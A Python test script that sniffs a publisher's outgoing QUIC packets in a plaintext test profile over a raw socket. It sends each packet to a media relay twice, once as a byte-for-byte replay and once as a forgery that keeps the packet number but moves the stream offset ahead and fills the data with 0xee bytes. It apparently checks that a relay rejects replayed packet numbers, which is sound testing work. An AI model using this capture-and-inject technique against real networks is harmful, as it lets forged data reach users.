#!/usr/bin/env python3
"""Spoofer on the publisher's link (run in its namespace): captures the
publisher's plaintext-profile media packets to the relay and sends each one
back twice under its own packet number, as QUIC would discard them:
  - the same bytes again (a replay);
  - a forgery: the same header (so the same packet number) with the STREAM
    frame moved AHEAD in its stream (offset + 3 x its length) and its data
    replaced by 0xee bytes. A relay that cloned it would hand every fast
    subscriber bytes the publisher never sent, before the real ones.

  pn_replay.py IFNAME RELAY_IP RELAY_PORT SECONDS MAX
Prints one JSON line: captured, replayed, forged."""
import json
import socket
import struct
import sys
import time

TAG = b"moq-plaintext-v1"
ETH_P_ALL = 0x0003  # outgoing frames reach ETH_P_ALL taps only
PACKET_OUTGOING = 4


def qv(b, o):
    """QUIC varint at b[o]: (value, new offset) or None."""
    if o >= len(b):
        return None
    n = 1 << (b[o] >> 6)
    if o + n > len(b):
        return None
    v = b[o] & 0x3f
    for k in range(1, n):
        v = (v << 8) | b[o + k]
    return v, o + n


def qv8(v):
    return struct.pack(">Q", (3 << 62) | v)


def forge(q):
    """q: the UDP payload of a 1-RTT packet starting with a STREAM frame
    that has OFF and LEN. Returns the forged payload or None."""
    if len(q) < 13 + 1 + 16 or q[0] != 0x43 or q[-16:] != TAG:
        return None
    o = 13
    # skip the ACK and PADDING frames a packet may start with
    while o < len(q) - 16 and q[o] in (0x00, 0x02):
        if q[o] == 0x00:
            o += 1
            continue
        o += 1
        vals = []
        for _ in range(4):
            r = qv(q, o)
            if not r:
                return None
            v, o = r
            vals.append(v)
        for _ in range(2 * vals[2]):
            r = qv(q, o)
            if not r:
                return None
            o = r[1]
    t = q[o] if o < len(q) else 0
    if t & 0xf8 != 0x08 or not t & 0x04:
        return None
    o += 1
    sid_start = o
    r = qv(q, o)
    if not r:
        return None
    _, o = r
    sid_bytes = q[sid_start:o]
    r = qv(q, o)
    if not r:
        return None
    off, o = r
    if t & 0x02:
        r = qv(q, o)
        if not r:
            return None
        ln, o = r
    else:
        ln = len(q) - 16 - o
    if ln < 50 or o + ln > len(q) - 16:
        return None
    frame = bytes([0x0e]) + sid_bytes + qv8(off + 3 * ln) + qv8(ln) + b"\xee" * ln
    return q[:13] + frame + TAG


def main():
    ifname, relay_ip, port, secs, cap = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
        float(sys.argv[4]), int(sys.argv[5])
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    rx.bind((ifname, ETH_P_ALL))
    rx.settimeout(0.2)
    tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    dst = socket.inet_aton(relay_ip)
    captured = replayed = forged = 0
    seen = {}  # first frame type of the packets not used
    end = time.monotonic() + secs
    while time.monotonic() < end and forged < cap:
        try:
            frame, addr = rx.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] != PACKET_OUTGOING:
            continue
        ip = frame[14:]
        if frame[12:14] != b"\x08\x00" or len(ip) < 28 or ip[9] != 17 or ip[16:20] != dst:
            continue
        ihl = (ip[0] & 0x0f) * 4
        udp = ip[ihl:]
        sport, dport = struct.unpack(">HH", udp[:4])
        if dport != port:
            continue
        q = udp[8:struct.unpack(">H", udp[4:6])[0]]
        f = forge(q)
        if f is None:
            seen[q[13] if len(q) > 13 else -1] = seen.get(q[13] if len(q) > 13 else -1, 0) + 1
            continue
        captured += 1
        # UDP checksum 0: none (IPv4); the source is the publisher's own
        # address and port (this is its namespace)
        for payload in (f, q):
            hdr = struct.pack(">HHHH", sport, port, 8 + len(payload), 0)
            tx.sendto(hdr + payload, (relay_ip, 0))
        forged += 1
        replayed += 1
    print(json.dumps({"captured": captured, "replayed": replayed, "forged": forged,
                      "skipped_by_first_frame": {"0x%02x" % k: v for k, v in seen.items()}}))


if __name__ == "__main__":
    main()
